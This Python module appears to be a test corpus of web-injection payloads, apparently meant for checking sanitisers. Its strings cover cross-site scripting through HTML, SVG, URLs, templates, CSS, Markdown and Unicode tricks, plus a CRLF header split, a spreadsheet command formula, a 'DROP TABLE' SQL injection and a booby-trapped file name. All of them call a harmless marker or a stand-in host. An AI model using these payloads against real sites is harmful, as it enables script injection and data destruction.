"""Text that becomes a script, an element or a request where a program takes what was written for markup, a template or an address.

Every payload calls `zq()`, or fetches or makes something with `zq` in its name, so that a test sees what it did. Shorter ones also fit into
a telephone number.
"""

from __future__ import annotations

from typing import Final

CALLED: Final = "zq"

HTML: Final = (
    "<script>zq()</script>",
    "<script src=//zq.test/zq.js></script>",
    '<script type=importmap>{"imports":{"preact":"//zq.test/zq.js"}}</script>',
    "<img src=/zq onerror=zq()>",
    "<img src=//zq.test/zq.png srcset=//zq.test/zq2.png>",
    "<b class=zq id=zq>zq</b>",
    "<zq-element>",
    "<iframe src=javascript:zq()>",
    '<iframe srcdoc="<script>parent.zq()</script>">',
    "<object data=javascript:zq()>",
    "<embed src=//zq.test/zq.swf>",
    "<base href=//zq.test/>",
    '<meta http-equiv=refresh content="0;url=//zq.test/zq">',
    "<link rel=stylesheet href=//zq.test/zq.css>",
    "<link rel=prefetch href=//zq.test/zq>",
    "<form action=//zq.test/zq><button autofocus>zq",
    "<input autofocus onfocus=zq()>",
    "<details open ontoggle=zq()>zq",
    "<marquee onstart=zq()>zq",
    "<video><source onerror=zq()>",
    "<audio src=/zq onerror=zq()>",
    "<body onload=zq() onpageshow=zq()>",
    "<a href=javascript:zq()>zq</a>",
    "<img name=zq id=main>",
    "<template><script>zq()</script></template>",
)
BREAKING_OUT: Final = (
    '"><img src=/zq onerror=zq()>',
    "'><script>zq()</script>",
    '" onfocus=zq() autofocus x="',
    "' onclick=zq() '",
    "`onmouseover=zq()`",
    "</textarea><script>zq()</script>",
    "</title><script>zq()</script>",
    "</option></select><img src=/zq onerror=zq()>",
    "--><img src=/zq onerror=zq()>",
    "]]><script>zq()</script>",
    '";zq();//',
    "'-zq()-'",
    "\\';zq();//",
    '<noscript><p title="</noscript><img src=/zq onerror=zq()>">',
)
SVG_AND_MATHML: Final = (
    "<svg onload=zq()>",
    "<svg><script>zq()</script></svg>",
    "<svg><animate onbegin=zq() attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=zq onload=zq()>#zq"/></svg>',
    "<svg><foreignObject><iframe src=javascript:parent.zq()>",
    "<svg><a xlink:href=javascript:zq()><text>zq</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=/zq onerror=zq()>",
    "<math href=javascript:zq()>zq</math>",
)
ADDRESSES: Final = (
    "javascript:zq()",
    " \tjAvAsCrIpT:zq()",
    "java\tscript:zq()",
    "javascript://%0azq()",
    "data:text/html,<script>zq()</script>",
    "data:text/html;base64,PHNjcmlwdD56cSgpPC9zY3JpcHQ+",
    "vbscript:zq()",
    "//zq.test/zq",
    "https://zq.test/zq?zq",
    "blob:https://zq.test/zq",
    "../../../api/zq",
)
TEMPLATES: Final = (
    "{{zq()}}",
    "{{constructor.constructor('zq()')()}}",
    "${zq()}",
    "<%= zq() %>",
    "#{zq()}",
    "[[zq()]]",
    '{"dangerouslySetInnerHTML":{"__html":"<img src=/zq onerror=zq()>"}}',
    '{"__proto__":{"zq":true}}',
    "__proto__",
    "%s%d%n zq",
)
STYLE: Final = (
    "<style>@import'//zq.test/zq'</style>",
    "<p style=background:url(//zq.test/zq)>",
    "expression(zq())",
    "}body{background:url(//zq.test/zq)}",
    "</style><script>zq()</script>",
)
MARKDOWN: Final = (
    "[zq](javascript:zq())",
    "![zq](//zq.test/zq.png)",
    "<javascript:zq()>",
    "[zq]: javascript:zq()",
    "```html\n<script>zq()</script>\n```",
)
UNICODE: Final = (
    "\u202egnp.zq\u202c",
    "\u2067zq\u2069 \u202ezq",
    "\uff1cscript\uff1ezq()\uff1c/script\uff1e",
    "<scr\u200bipt>zq()</scr\u200bipt>",
    "<\u017fcript>zq()</\u017fcript>",
    "\ufeff<img src=/zq onerror=zq()>",
    "\u2028zq()\u2029",
    "z\u0300\u0301\u0302q <b\u0300>zq</b\u0300>",
    "\U0001f469\u200d\U0001f467 <svg onload=zq()>",
)
ENCODED: Final = (
    "&lt;script&gt;zq()&lt;/script&gt;",
    "&#60;img src=/zq onerror=zq()&#62;",
    "%3Cscript%3Ezq()%3C/script%3E",
    "\\x3cscript\\x3ezq()",
    "\\u003cscript\\u003ezq()",
    "+ADw-script+AD4-zq()",
)
ELSEWHERE: Final = (
    '=HYPERLINK("//zq.test/zq","zq")',
    "@SUM(zq)|cmd",
    "\r\nSet-Cookie: zq=1\r\n\r\n<script>zq()</script>",
    "\x1b[31mzq\x1b[0m",
    "'; DROP TABLE zq; --",
)

CORPUS: Final = (
    *HTML,
    *BREAKING_OUT,
    *SVG_AND_MATHML,
    *ADDRESSES,
    *TEMPLATES,
    *STYLE,
    *MARKDOWN,
    *UNICODE,
    *ENCODED,
    *ELSEWHERE,
)
# Fits between two others wherever there is room for it: what a person's file could be called.
FILE_NAME: Final = "<img src=x onerror=zq()>.png"
